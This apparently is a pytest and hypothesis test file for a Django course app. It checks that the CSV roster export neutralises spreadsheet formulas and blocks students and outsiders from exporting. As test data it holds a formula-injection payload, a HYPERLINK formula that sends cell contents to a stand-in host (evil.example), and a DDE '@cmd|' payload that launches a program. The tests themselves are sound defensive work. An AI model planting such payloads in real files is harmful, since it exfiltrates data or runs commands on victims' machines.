"""The CSV export: choices, circles and plan status, with spreadsheet formulas neutralised (docs/reliability.md row 22)."""
import csv
import io

import pytest
from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st

from courseproj.courses import services
from courseproj.courses.exports import FORMULA_STARTS, neutralise, to_csv
from courseproj.courses.models import RosterEntry
from courseproj.planner.models import PlanStatus
from tests import factories


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- the property, over any string ---


@given(st.text())
@example("=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")")
@example("+1")
@example("-2+3")
@example("@SUM(A1:A9)")
@example("\tcmd")
@example("\r=1")
@example("\x00=1")
@example("'=already quoted")
@pytest.mark.reliability(22)
def test_a_cell_never_starts_a_formula_and_only_gains_an_apostrophe(value):
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_the_written_csv_reads_back_cell_for_cell(rows):
    assert read(to_csv(rows)) == [[neutralise(cell) for cell in row] for row in rows]


@given(st.integers(min_value=-10**6, max_value=10**6))
def test_numbers_stay_numbers(number):
    assert read(to_csv([[number]])) == [[str(number)]]


# --- the page ---


def export(client, course, **query):
    response = client.get(reverse("dashboard_export", args=[course.pk]), query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    return read(response.content.decode("utf-8-sig"))


def test_export_has_choices_circles_plan_status_and_picks(client_for, course, instructor, student, classmate, dataset, homework9):
    factories.InterestFactory(dataset=dataset, student=student, rank=1)
    factories.published_run(course=course, assignments={student: dataset, classmate: dataset})
    plan = factories.PlanFactory(assignment=homework9, student=student, status=PlanStatus.SUBMITTED)
    plan.picks.create(option=homework9.menu.categories.first().options.first())
    factories.PlanFactory(assignment=homework9, student=classmate, takes_alternative=True)
    rows = export(client_for(instructor), course, assignment=homework9.pk)
    header, *body = rows
    assert header == ["Name", "Email", "In the course", "Ranking", "Dataset", "Circle size", "Circle",
                      "Plan status", "Picks", "Alternative track"]
    by_name = {row[0]: row for row in body}
    assert by_name["Sam Student"][3:] == ["Iris flowers", "Iris flowers", "2", "Cleo Classmate", "Waiting for approval",
                                          "PyTorch Recipes: Saving and loading models", "no"]
    assert by_name["Cleo Classmate"][7:] == ["Draft", "", "yes"]


@pytest.mark.reliability(22)
def test_imported_formula_names_stay_verbatim_in_the_db_and_are_neutralised_in_the_export(client_for, course, instructor):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    roster = f'email,name\nlate@example.com,"{evil.replace(chr(34), chr(34) * 2)}"\nplus@example.com,+31 6 1234\n'
    services.roster_import(course=course, data=roster.encode())
    assert RosterEntry.objects.get(email="late@example.com").name == evil

    rows = export(client_for(instructor), course)
    names = {row[1]: row[0] for row in rows[1:]}
    assert names["late@example.com"] == "'" + evil
    assert names["plus@example.com"] == "'+31 6 1234"


@pytest.mark.reliability(22)
def test_a_student_named_like_a_formula_is_neutralised(client_for, course, instructor):
    factories.MembershipFactory(course=course, user__name="@cmd|' /C calc'!A0")
    rows = export(client_for(instructor), course)
    assert rows[1][0] == "'@cmd|' /C calc'!A0"


@pytest.mark.reliability(30)
def test_students_and_outsiders_cannot_export(client_for, course, student, outsider):
    assert client_for(student).get(reverse("dashboard_export", args=[course.pk])).status_code == 403
    assert client_for(outsider).get(reverse("dashboard_export", args=[course.pk])).status_code == 404
